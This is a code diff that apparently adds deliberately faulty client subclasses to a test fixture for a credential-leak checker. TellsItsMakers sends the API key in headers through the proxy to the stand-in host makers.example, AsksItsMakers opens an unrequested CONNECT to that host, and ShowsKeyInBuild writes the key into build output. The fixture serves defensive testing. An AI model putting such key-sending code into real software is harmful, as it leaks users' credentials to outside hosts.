@@ -6,6 +6,7 @@ import base64
 import json
 import os
 import re
+import socket
 import sys
 import threading
 import time
@@ -114,6 +115,26 @@ class BuildsWithoutKey(Client):
 class UploadsWithKey(Client):
     def upload(self, url, content):
         return self.elsewhere("PUT", url, self.headers(self.key()), content)
+
+
+class AsksItsMakers(Client):
+    def create(self, template):
+        send_to_makers("CONNECT makers.example:443", {})
+        return super().create(template)
+
+
+class TellsItsMakers(Client):
+    def create(self, template):
+        send_to_makers("GET http://makers.example/", self.headers(self.key()))
+        return super().create(template)
+
+
+def send_to_makers(line, headers):
+    name, _, port = os.environ["https_proxy"].rpartition("/")[2].partition(":")
+    with socket.create_connection((name, int(port))) as connection:
+        lines = [f"{line} HTTP/1.1", *(f"{header}: {value}" for header, value in headers.items())]
+        connection.sendall("\r\n".join([*lines, "", ""]).encode())
+        connection.recv(100)
 
 
 class ShowsKeyToSandbox(Client):
@@ -407,6 +428,11 @@ class ShowsKeyWhenSerialized(Client):
     def __init__(self, base_url, api_key=None, *others, **more):
         super().__init__(base_url, api_key, *others, **more)
         self.header = {"X-API-Key": api_key}
+
+
+class ShowsKeyInBuild(Client):
+    def build(self, name, content):
+        return super().build(name, content) | {"made_with": self.key()}
 
 
 # not wrong, or wrong in a way that no rule is about
